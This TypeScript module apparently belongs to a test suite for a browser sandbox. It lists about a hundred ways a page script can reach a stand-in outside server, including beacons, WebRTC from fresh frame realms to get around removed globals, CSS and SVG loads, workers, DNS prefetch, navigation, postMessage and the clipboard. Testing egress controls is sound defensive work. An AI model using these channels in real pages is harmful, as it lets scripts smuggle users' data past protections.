// oxlint-disable typescript/no-explicit-any, typescript/no-implied-eval -- some are by interfaces that the DOM's types do not know, one is by eval

/** Where a way leads to: a port of its own, TCP and UDP, so that a bare connection tells which way it came; and a name. */
export interface Outside {
  /** `http://127.0.0.1:4001/out`: whoever asks for it has sent something. */
  readonly url: string;
  /** `127.0.0.1:4001`. */
  readonly host: string;
  /** A name that only this way asks the resolver for. */
  readonly name: string;
}

/** Tries a way out with whatever a script may do. What it throws, or waits for, is of no interest. */
export type Way = (outside: Outside) => unknown;

/** An element with attributes, in the page. */
function put(
  tag: string,
  attributes: Readonly<Record<string, string>> = {},
  parent: Element = document.body,
): HTMLElement {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  parent.append(element);
  return element;
}

function putSvg(tag: string, attributes: Readonly<Record<string, string>>): SVGElement {
  const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
  const element = document.createElementNS('http://www.w3.org/2000/svg', tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  svg.append(element);
  document.body.append(svg);
  return element;
}

function putLink(rel: string, href: string, more: Readonly<Record<string, string>> = {}): void {
  put('link', { rel, href, ...more }, document.head);
}

function putStyle(css: string): void {
  put('style').textContent = css;
  put('div', { class: 'way' }).textContent = 'x';
}

/** A document of one's own, as an address. */
function makeBlob(text: string, type = 'text/html'): string {
  return URL.createObjectURL(new Blob([text], { type }));
}

function startWorker(code: string): Worker {
  return new Worker(makeBlob(code, 'text/javascript'));
}

/** What another window's globals still have where this one's are gone. */
function connectFrom(realm: typeof globalThis | null | undefined, servers: string): void {
  if (!realm) return;
  const peer = new realm.RTCPeerConnection({
    iceServers: [{ urls: servers, username: 'u', credential: 'p' }],
  });
  peer.createDataChannel('out');
  void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}

/** A realm in a frame, fresh from the browser. */
function makeFrame(tag = 'iframe'): typeof globalThis | null {
  const frame = put(tag) as HTMLIFrameElement;
  return frame.contentWindow as typeof globalThis | null;
}

/** Without a look at the element that holds it. */
function findLastFrame(): typeof globalThis {
  return window[window.length - 1] as unknown as typeof globalThis;
}

// What the DOM's types do not know yet.
const page = globalThis as unknown as Record<string, any>;

/** The one that is tried of the page in a frame of another. */
export const framedWay = 'message to the page that frames it';

/** Ways out of a page that a script inside it can try. */
export const ways: Readonly<Record<string, Way>> = {
  // Requests
  fetch: ({ url }) => fetch(url, { mode: 'no-cors' }),
  'fetch that outlives the page': ({ url }) =>
    fetch(url, { mode: 'no-cors', method: 'POST', body: 'row', keepalive: true }),
  'fetch later': ({ url }) => page['fetchLater'](url, { activateAfter: 0 }),
  XMLHttpRequest: ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  'XMLHttpRequest that waits': ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('GET', url, false);
    request.send();
  },
  beacon: ({ url }) => navigator.sendBeacon(url, 'row'),
  WebSocket: ({ host }) => new WebSocket(`ws://${host}/out`),
  'WebSocket stream': ({ host }) => new page['WebSocketStream'](`ws://${host}/out`),
  EventSource: ({ url }) => new EventSource(url),
  WebTransport: ({ host }) => new page['WebTransport'](`https://${host}/out`),
  'payment method': ({ url }) =>
    new page['PaymentRequest']([{ supportedMethods: url }], {
      total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
    }).canMakePayment(),
  'federated login': ({ url }) =>
    navigator.credentials.get({
      identity: { providers: [{ configURL: url, clientId: 'x' }] },
    } as CredentialRequestOptions),
  'passkey of another site': ({ name }) =>
    navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: name } }),
  'interest group': ({ url }) =>
    page['navigator'].joinAdInterestGroup(
      { owner: new URL(url).origin, name: 'x', updateURL: url, lifetimeMs: 1e6 },
      1e4,
    ),
  'report of a violation': ({ url }) => {
    put(
      'meta',
      { 'http-equiv': 'Content-Security-Policy', content: `img-src data: blob:; report-uri ${url}` },
      document.head,
    );
    new Image().src = 'http://127.0.0.1:9/x';
  },

  // Peers
  WebRTC: ({ host }) => connectFrom(globalThis, `stun:${host}`),
  'WebRTC by its old name': ({ host }) => {
    page['RTCPeerConnection'] = page['webkitRTCPeerConnection'];
    connectFrom(globalThis, `stun:${host}`);
  },
  'WebRTC by a relay': ({ host }) => connectFrom(globalThis, `turn:${host}?transport=tcp`),
  'WebRTC by a name': ({ name }) => connectFrom(globalThis, `stun:${name}:3478`),
  'WebRTC of a frame': ({ host }) => connectFrom(makeFrame(), `stun:${host}`),
  'WebRTC of a frame without a name': ({ host }) => {
    put('iframe');
    connectFrom(findLastFrame(), `stun:${host}`);
  },
  'WebRTC of an object': ({ host }) => connectFrom(makeFrame('object'), `stun:${host}`),
  'WebRTC of a frame made by its class': ({ host }) => {
    class Frame extends HTMLIFrameElement {}
    customElements.define('x-frame', Frame, { extends: 'iframe' });
    const frame = new Frame();
    document.body.append(frame);
    connectFrom(frame.contentWindow as unknown as typeof globalThis, `stun:${host}`);
  },
  'WebRTC of a frame in other markup': ({ host }) => {
    const holder = put('div');
    const other = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'html');
    holder.append(document.importNode(other.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'), true));
    connectFrom(findLastFrame(), `stun:${host}`);
  },
  'WebRTC of a frame by a style sheet for XML': ({ host }) => {
    const xsl = 'http://www.w3.org/1999/XSL/Transform';
    const sheet = document.implementation.createDocument(xsl, 'xsl:stylesheet');
    sheet.documentElement.setAttribute('version', '1.0');
    const template = sheet.createElementNS(xsl, 'xsl:template');
    template.setAttribute('match', '/');
    const made = sheet.createElementNS(xsl, 'xsl:element');
    made.setAttribute('name', 'iframe');
    made.setAttribute('namespace', 'http://www.w3.org/1999/xhtml');
    template.append(made);
    sheet.documentElement.append(template);
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    document.body.append(
      processor.transformToFragment(document.implementation.createDocument(null, 'x'), document),
    );
    connectFrom(findLastFrame(), `stun:${host}`);
  },
  'WebRTC of another window': ({ host }) =>
    connectFrom(window.open('about:blank') as unknown as typeof globalThis, `stun:${host}`),

  // Pictures and styles
  image: ({ url }) => {
    new Image().src = url;
  },
  'image by density': ({ url }) => put('img', { srcset: `${url} 1x` }),
  'image of a picture': ({ url }) => {
    const picture = put('picture');
    put('source', { srcset: url }, picture);
    put('img', {}, picture);
  },
  'image of a button': ({ url }) => put('input', { type: 'image', src: url }),
  'background of a table': ({ url }) => put('table', { background: url }),
  'image in SVG': ({ url }) => putSvg('image', { href: url, width: '9', height: '9' }),
  'use in SVG': ({ url }) => putSvg('use', { href: `${url}#x` }),
  'filter in SVG': ({ url }) => {
    const filter = putSvg('filter', { id: 'way' });
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'feImage');
    image.setAttribute('href', url);
    filter.append(image);
    putStyle('.way { filter: url(#way) }');
  },
  'poster of a video': ({ url }) => put('video', { poster: url }),
  'icon of the page': ({ url }) => putLink('icon', url),
  'icon of the page, changed': ({ url }) => {
    document.querySelector<HTMLLinkElement>('link[rel=icon]')?.setAttribute('href', url);
  },
  'icon for a telephone': ({ url }) => putLink('apple-touch-icon', url),
  'icon of a notification': ({ url }) => new Notification('x', { icon: url }),
  'cover of what is playing': ({ url }) => {
    navigator.mediaSession.metadata = new MediaMetadata({
      title: 'x',
      artwork: [{ src: url, sizes: '96x96' }],
    });
  },
  'background in CSS': ({ url }) => putStyle(`.way { background: url(${url}) }`),
  'border in CSS': ({ url }) => putStyle(`.way { border: 1px solid; border-image: url(${url}) 1 }`),
  'mask in CSS': ({ url }) =>
    putStyle(`.way { mask: url(${url}#m); clip-path: url(${url}#c); filter: url(${url}#f) }`),
  'cursor in CSS': ({ url }) =>
    putStyle(`.way, html { cursor: url(${url}), auto; list-style-image: url(${url}) }`),
  'content in CSS': ({ url }) => putStyle(`.way::before { content: image-set(url(${url}) 1x) }`),
  'style sheet of a sheet': ({ url }) => putStyle(`@import url(${url});`),
  'style sheet': ({ url }) => putLink('stylesheet', url),
  'constructed style sheet': ({ url }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { background: url(${url}) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  'font in CSS': ({ url }) =>
    putStyle(`@font-face { font-family: way; src: url(${url}) } .way { font-family: way }`),
  'font by script': ({ url }) => new FontFace('way', `url(${url})`).load(),
  'painting by a worklet': ({ url }) => page['CSS'].paintWorklet.addModule(url),
  'sound by a worklet': ({ url }) => new AudioContext().audioWorklet.addModule(url),

  // Code
  script: ({ url }) => put('script', { src: url }),
  'script module': ({ url }) => put('script', { type: 'module', src: url }),
  'import by script': ({ url }) => import(/* @vite-ignore */ url),
  'source map': ({ url }) => {
    put('script').textContent = `1;//# sourceMappingURL=${url}`;
  },
  'worker by address': ({ url }) => new Worker(url),
  'shared worker by address': ({ url }) => new SharedWorker(url),
  'service worker': ({ url }) => navigator.serviceWorker.register(url),
  'fetch in a worker': ({ url }) => startWorker(`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`),
  'WebSocket in a worker': ({ host }) => startWorker(`new WebSocket('ws://${host}/out')`),
  'import in a worker': ({ url }) => startWorker(`importScripts(${JSON.stringify(url)})`),
  'fetch in a worker of a worker': ({ url }) =>
    startWorker(
      `trustedTypes.createPolicy('default', { createScriptURL: (x) => x });` +
        `new Worker(URL.createObjectURL(new Blob(['fetch(${JSON.stringify(url)}, { mode: "no-cors" })'])))`,
    ),
  'fetch in a shared worker': ({ url }) =>
    new SharedWorker(makeBlob(`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`, 'text/javascript')),

  // Hints
  preload: ({ url }) => putLink('preload', url, { as: 'image' }),
  'preload of a module': ({ url }) => putLink('modulepreload', url),
  prefetch: ({ url }) => putLink('prefetch', url),
  prerender: ({ url }) => putLink('prerender', url),
  preconnect: ({ url }) => putLink('preconnect', new URL(url).origin),
  'preconnect by a link that was there': ({ url }) => {
    const link = document.querySelector('link');
    link?.setAttribute('href', new URL(url).origin);
    link?.setAttribute('rel', 'preconnect');
  },
  'look-up of a name': ({ name }) => putLink('dns-prefetch', `//${name}`),
  'look-up of a name by a link on the page': ({ name }) => {
    put('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }, document.head);
    put('a', { href: `http://${name}/` }).textContent = 'x';
  },
  'rules for guessing ahead': ({ url }) => {
    put('script', { type: 'speculationrules' }).textContent = JSON.stringify({
      prefetch: [{ urls: [url] }],
      prerender: [{ urls: [url] }],
    });
  },
  manifest: ({ url }) => putLink('manifest', url),

  // Documents
  frame: ({ url }) => put('iframe', { src: url }),
  'frame of a frameset': ({ url }) =>
    put('frame', { src: url }, put('frameset', {}, document.documentElement)),
  'fenced frame': ({ url }) => {
    const frame = put('fencedframe');
    Reflect.set(frame, 'config', new page['FencedFrameConfig'](url));
  },
  'frame with a document inside': ({ url }) => put('iframe', { srcdoc: `<img src="${url}">` }),
  'frame made of a blob': ({ url }) =>
    put('iframe', { src: makeBlob(`<img src="${url}"><meta http-equiv=refresh content="0;url=${url}">`) }),
  'frame made of data': ({ url }) => put('iframe', { src: `data:text/html,<img src="${url}">` }),
  'frame made of code': ({ url }) => put('iframe', { src: `javascript:fetch("${url}",{mode:"no-cors"})` }),
  'fetch of a frame': ({ url }) => makeFrame()?.fetch(url, { mode: 'no-cors' }),
  'markup written into a frame': ({ url }) => {
    const frame = put('iframe') as HTMLIFrameElement;
    frame.contentDocument?.write(`<img src="${url}"><link rel=stylesheet href="${url}">`);
  },
  object: ({ url }) => put('object', { data: url }),
  embed: ({ url }) => put('embed', { src: url }),
  'markup written into the page': ({ url }) => {
    put('div').innerHTML = `<img src="${url}"><video src="${url}"></video>`;
  },
  'markup parsed': ({ url }) => {
    const parsed = new DOMParser().parseFromString(`<img src="${url}">`, 'text/html');
    document.body.append(...parsed.body.childNodes);
  },
  'handler in an attribute': ({ url }) => put('div', { onclick: `fetch("${url}",{mode:"no-cors"})` }).click(),
  'code from text': ({ url }) => new Function(`new Image().src = "${url}"`)(),
  audio: ({ url }) => put('audio', { src: url, autoplay: '' }),
  video: ({ url }) => put('video', { src: url, autoplay: '' }),
  'source of a video': ({ url }) => put('source', { src: url }, put('video', { autoplay: '' })),
  'subtitles of a video': ({ url }) =>
    put('track', { src: url, default: '', kind: 'captions' }, put('video', { src: 'data:video/mp4,' })),

  // Navigation
  'location, assigned': ({ url }) => {
    location.href = url;
  },
  'location, replaced': ({ url }) => location.replace(url),
  'navigation by its interface': ({ url }) => page['navigation'].navigate(url),
  'another window': ({ url }) => window.open(url),
  'another window without an opener': ({ url }) => window.open(url, '_blank', 'noopener'),
  'click on a link': ({ url }) => put('a', { href: url }).click(),
  'click on a link to another window': ({ url }) => put('a', { href: url, target: '_blank' }).click(),
  'click on a link to a window by name': ({ url }) =>
    put('a', { href: url, target: 'way', rel: 'opener' }).click(),
  'click on a link outside of the page': ({ url }) => {
    const link = document.createElement('a');
    link.href = url;
    link.target = '_blank';
    link.click();
  },
  'click sent to a link': ({ url }) => {
    const link = document.createElement('a');
    link.href = url;
    link.target = '_blank';
    link.dispatchEvent(new MouseEvent('click'));
  },
  'click on a link that changes under it': ({ url }) => {
    const link = put('a', { href: '#way' }) as HTMLAnchorElement;
    link.addEventListener('click', () => {
      link.href = url;
      link.target = '_blank';
    });
    link.click();
  },
  'click on a link in a closed shadow': ({ url }) => {
    const root = put('div').attachShadow({ mode: 'closed' });
    const link = document.createElement('a');
    link.href = url;
    link.target = '_blank';
    root.append(link);
    link.click();
  },
  'click on a link to download': ({ url }) => put('a', { href: url, download: 'x' }).click(),
  'ping of a link': ({ url }) => put('a', { href: '#way', ping: url }).click(),
  'click on an area': ({ url }) => put('area', { href: url, target: '_blank' }, put('map')).click(),
  'click on a link in SVG': ({ url }) =>
    putSvg('a', { href: url, target: '_blank' }).dispatchEvent(new MouseEvent('click', { bubbles: true })),
  'form sent': ({ url }) => (put('form', { action: url }) as HTMLFormElement).submit(),
  'form sent to another window': ({ url }) =>
    (put('form', { action: url, target: '_blank', method: 'post' }) as HTMLFormElement).submit(),
  'form sent by a button': ({ url }) =>
    put('button', { formaction: url, formtarget: '_blank' }, put('form')).click(),
  'page that refreshes itself': ({ url }) =>
    put('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }, document.head),
  'base of addresses': ({ url }) => {
    put('base', { href: url }, document.head);
    put('img', { src: 'x' });
    put('a', { href: 'y' }).click();
  },
  'page of code': ({ url }) => {
    location.href = `javascript:void fetch("${url}",{mode:"no-cors"})`;
  },
  'page of a blob': ({ url }) => {
    location.href = makeBlob(`<img src="${url}"><meta http-equiv=refresh content="0;url=${url}">`);
  },
  'address of the page, loaded again': ({ name }) => {
    history.replaceState(null, '', `?${name}`);
    location.reload();
  },
  'address of the page by its interface': ({ name }) => {
    page['navigation'].addEventListener('navigate', (event: any) => event.intercept(), { once: true });
    page['navigation'].navigate(`?${name}`).finished.then(() => location.reload());
  },
  'cookie of the page': ({ name }) => {
    document.cookie = `row=${name}`;
    location.reload();
  },
  'cookie by its interface': async ({ name }) => {
    await page['cookieStore'].set('row', name);
    location.reload();
  },

  // Other pages
  'message to the page that opened it': ({ name }) => window.opener.postMessage(name, '*'),
  [framedWay]: ({ name }) => window.parent.postMessage(name, '*'),
  clipboard: ({ name }) => navigator.clipboard.writeText(name),
  'clipboard by a command': ({ name }) => {
    document.addEventListener('copy', (event) => {
      event.clipboardData?.setData('text/plain', name);
      event.preventDefault();
    });
    document.execCommand('copy');
  },
  'window of a blob': ({ url }) =>
    window.open(makeBlob(`<img src="${url}"><meta http-equiv=refresh content="0;url=${url}">`)),
};
